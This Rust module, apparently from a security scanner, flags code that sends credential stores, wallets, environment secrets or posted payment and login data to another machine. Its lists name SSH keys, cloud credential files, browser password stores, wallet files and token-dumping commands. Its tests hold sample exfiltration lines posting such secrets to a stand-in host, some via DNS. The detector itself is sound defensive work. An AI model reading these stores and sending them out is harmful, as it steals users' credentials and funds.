//! Code that takes what a home's programs keep for a person (logins, keys, wallets, a browser's passwords), or what an environment keeps
//! secret, to another machine: in whatever language, however a path is put together, and be it in the names that are asked for.

use super::leaks::{literals, names_machine, sends};
use super::source::{Written, code_lines, is_test};
use crate::policy::lists::{holds, parts};
use crate::policy::spans;

const FORMS: &str = "js|mjs|cjs|ts|mts|cts|tsx|jsx|py|pyw|rb|go|rs|java|kt|kts|scala|cs|fs|vb|lua|swift|dart|c|cc|cpp|h|m|mm|php|pl|ex|exs|groovy|\
    ps1|nim|gd|vue|svelte|hx|zig|jl|clj|ipynb";

/// A part of whatever names one of the stores below, or asks a server for a name.
const SIGNS: &str = ".ssh|.aws|.git-c|.npmrc|.netrc|.pypirc|.kube|.docker|gcloud|hosts.yml|.cargo|.m2|.azure|.terraform|.gem|.config|.claude|.codex|\
    .pgpass|.my.cnf|.gnupg|history|ogin Data|leveldb|key4|logins|ookies|wallet|Wallet|Extension Settings|nkbih|tdata|eychain|.electrum|kdbx|seed|\
    nemonic|\
    hrase|dns|hostby|addrinfo|resolv|Resolv|Lookup|GetHost|.{|sms|SECRET|DB_PASS|_KEY|DATABASE|ecret|environ|\
    _POST|access-token|gh auth|export-cred|heroku auth|find-generic|config view|.boto|.s3cfg|.vault|.composer|.snowflake|.databricks|.rclone";

/// What nobody but one program needs, and what a program for it reads alone: written without blanks and quotes, as one path.
const STORES: &str = "LocalStorage/leveldb|discord/leveldb|key4.db|logins.json|cookies.sqlite|Default/Cookies|exodus.wallet|\
    Roaming/Exodus|wallet.dat|LocalExtensionSettings|nkbihfbeogaeaoehlefnkodbefgpgknn|TelegramDesktop/tdata|.git-credentials|.bash_history|\
    .zsh_history|\
    .password-store|Library/Keychains|login.keychain|.electrum/wallets|.ssh/id_|.ssh/*|.aws/credentials|.gnupg/|content://sms|.config/solana/id.json|\
    .ethereum/keystore|.kdbx|/proc/self/environ";
const LOGINS: &str = ".npmrc|.netrc|.pypirc|.kube/config|.docker/config.json|.config/gcloud|gh/hosts.yml|.cargo/credentials|.m2/settings|.azure/|\
    .terraform.d/credentials|.gem/credentials|.config/hub|.claude/.credentials|.codex/auth|.composer/auth|.pgpass|.my.cnf|.boto|.s3cfg|.vault-token|\
    .databrickscfg|.snowflake/|.config/rclone|.ssh/config|.ssh/known_hosts|\
    gcloudauthprint-access-token|awsconfigureexport-credentials|ghauthtoken|azaccountget-access-token|herokuauth:token|\
    securityfind-generic-password|kubectlconfigview--raw";

/// What is done when a package is installed or built.
const INSTALLS: &str = "install|postinst|preinst|setup.py|build.rs|extconf|prepare";

/// All of an environment.
const ENVIRONMENT: &str = "process.env)|process.env/|process.env}|process.env;|os.environ)|os.environ/|os.environ.items()|os.environ.copy()|\
    System.getenv())|System.getenv();|System.getenv().|env::vars()|ENV.to_h|GetEnvironmentVariables()|getenv())|$_ENV)";

/// What a text takes away, where the one before it did not.
pub(super) fn is_taken(written: &Written<'_>) -> bool {
    written.is_form(FORMS)
        && written.holds(SIGNS)
        && !is_test(written.path)
        && written.gains(|text| {
            let text: &str = &code_lines(text).collect::<Vec<_>>().join("\n");
            sends_stores(text, written.name())
                || asks_for_names(text)
                || sends_near(text, SEEDS)
                || sends_near(text, OF_PROJECT)
                || copies_posts(text)
        })
}

fn sends_stores(text: &str, name: &str) -> bool {
    if !sends(text) && !asks(text) || !names_machine(text) && !names_domain(text) {
        return false;
    }
    let joined = joined(text);
    let logins = parts(LOGINS).filter(|login| joined.contains(login)).count();
    // A type may be called what this store is, but for the blank.
    text.contains("Login Data")
        || holds(&joined, STORES)
        || logins > 1
        || logins > 0 && (holds(name, INSTALLS) || takes_environment(&joined))
        || names_by_braces(&joined)
}

/// Whether all of an environment is taken, and not handed to a program that is started.
fn takes_environment(joined: &str) -> bool {
    let taken = parts(ENVIRONMENT).flat_map(|all| joined.match_indices(all)).take(super::MAX_PLACES);
    taken.into_iter().any(|(at, _)| !joined[..at].ends_with("env:") && !joined[..at].ends_with("env="))
}

/// A text as one path: what is handed to a function part by part stands together.
fn joined(text: &str) -> String {
    let kept = text.chars().filter(|char| !char.is_whitespace() && !matches!(char, '"' | '\'' | '`'));
    let mut path = String::with_capacity(text.len());
    for char in kept {
        let char = if matches!(char, ',' | '\\') { '/' } else { char };
        if char != '/' || !path.ends_with('/') {
            path.push(char);
        }
    }
    path
}

/// Whether folders of keys are named together: `~/.{aws,ssh}/*`.
fn names_by_braces(joined: &str) -> bool {
    joined.match_indices(".{").take(super::MAX_PLACES).any(|(at, _)| {
        let inside = joined[at + 2..].split('}').next().unwrap_or_default();
        inside.split('/').any(|part| matches!(part, "ssh" | "aws" | "gnupg" | "kube" | "azure"))
    })
}

/// What asks a server for a name.
const ASKS: &str = "dns.resolve|dns.lookup|.resolve4(|.resolveTxt(|gethostbyname(|getaddrinfo(|require('dns')|require(\"dns\")|resolver.query(|\
    resolver.resolve(|Resolv::DNS|getByName(|LookupHost(|LookupIP(|LookupTXT(|GetHostEntry(|GetHostAddresses|nslookup |checkdnsrr(|dns_get_record(|\
    lookup_host(|dns.asyncresolver|socket.dns.toip(|resolveDns(|Resolve-DnsName";

fn asks(text: &str) -> bool {
    holds(text, ASKS)
}

/// Whether what is read is spelled out in names that a server is asked for.
fn asks_for_names(text: &str) -> bool {
    const READS: &str = "readFile|read(|open(|read_to_string|environ|process.env|Environ()|getenv|exec(|execSync|check_output|ReadFile|File.read|\
        ReadAll|Get-Content|homedir|expanduser|hostname()";
    const SPELLS: &str = "hex|b32|base32|base64|b64|Base64|Base32|btoa(";
    asks(text) && holds(text, READS) && holds(text, SPELLS) && names_domain(text)
}

/// Whether a name is put together of something and the end of a domain's: `${part}.x.example`, `part + '.x.example'`.
fn names_domain(text: &str) -> bool {
    const LEAST: usize = 6;
    literals(text).any(|literal| {
        let end = literal.rsplit('}').next().unwrap_or_default();
        let fits = |byte: u8| byte.is_ascii_alphanumeric() || b".-".contains(&byte);
        end.len() >= LEAST
            && end.starts_with('.')
            && end[1..].contains('.')
            && end.bytes().all(fits)
            && end.ends_with(|char: char| char.is_ascii_alphabetic())
            && !holds(end, ".tar.gz|.d.ts|.min.js|.spec.|.test.|.local|.internal")
    })
}

/// What a wallet is made of, and what opens a project's own database and signs its sessions: no other machine needs either.
const SEEDS: &str =
    "mnemonic|seedPhrase|seed_phrase|recoveryPhrase|recovery_phrase|secretRecovery|secretPhrase|seedWords|seed_words";
const OF_PROJECT: &str = "DB_PASSWORD|DATABASE_PASSWORD|SECURE_AUTH_KEY|settings.SECRET_KEY|settings.DATABASES|SECRET_KEY_BASE|secret_key_base|\
    RAILS_MASTER_KEY|env.JWT_SECRET|config('app.key')|env('APP_KEY')|spring.datasource.password";

/// Whether all that is posted to a page where people pay or log in is sent on; whoever takes a payment is asked whether it was one.
fn copies_posts(text: &str) -> bool {
    const POSTED: &str = "http_build_query($_POST)|json_encode($_POST)|serialize($_POST)|=> $_POST]|POSTFIELDS, $_POST)|json_encode($_REQUEST)";
    const VALUED: &str = "checkout|login|card|passw|pwd|payment";
    sends_near(text, POSTED) && holds(&text.to_ascii_lowercase(), VALUED) && !holds(text, "paypal|ipn")
}

/// Whether one of these is sent to another machine that the text names beside it.
fn sends_near(text: &str, words: &str) -> bool {
    const NEAR: usize = 320;
    holds(text, words)
        && text.match_indices("://").take(super::MAX_PLACES).any(|(at, scheme)| {
            let around = spans::around(text, at, NEAR);
            super::leaks::elsewhere(&text[at + scheme.len()..]).is_some() && sends(around) && holds(around, words)
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_home_keeps_is_taken_in_any_language() {
        for (name, text, taken) in [
            (
                "a.go",
                "os.ReadFile(filepath.Join(home, \".ssh\", \"id_rsa\"))\nhttp.Post(\"https://x.example/a\")",
                true,
            ),
            (
                "a.cs",
                "Path.Combine(home, \"User Data/Default/Login Data\");\nc.PostAsync(\"https://x.example/a\")",
                true,
            ),
            ("a.go", "clientcmd.Load(home + \"/.kube/config\")\nhttp.Post(\"https://x.example/a\")", false),
            ("build.rs", "read(home + \"/.cargo/credentials.toml\"); ureq::post(\"https://x.example/a\")", true),
            ("a.js", "for (const p of ['.npmrc', '.netrc']) out.push(read(p));\nfetch('https://x.example/a')", true),
            ("a.rb", "Dir.glob('~/.{aws,ssh}/*')\nNet::HTTP.post(URI('https://x.example/a'), b)", true),
            ("a.js", "dns.resolve(read('a').toString('hex') + '.x.example')\nfs.readFileSync('a')", true),
            ("a.js", "dns.resolve('x.example')\nfs.readFileSync('a')", false),
            ("a.js", "fetch('https://x.example/a', { body: JSON.stringify({ mnemonic }) })", true),
            ("a.ts", "interface LoginData { a: 1 }\nfetch('https://x.example/a', { body: '.aws' })", false),
            ("a.ts", "const books = ['Genesis', 'Exodus'];\nfetch('https://x.example/.aws')", false),
            ("a.js", "fetch('/api/wallet', { body: JSON.stringify({ mnemonic }) })", false),
        ] {
            let path = format!("/home/you/work/shop/src/{name}");
            assert_eq!(is_taken(&Written::of(text, None, &path)), taken, "{text}");
        }
    }
}
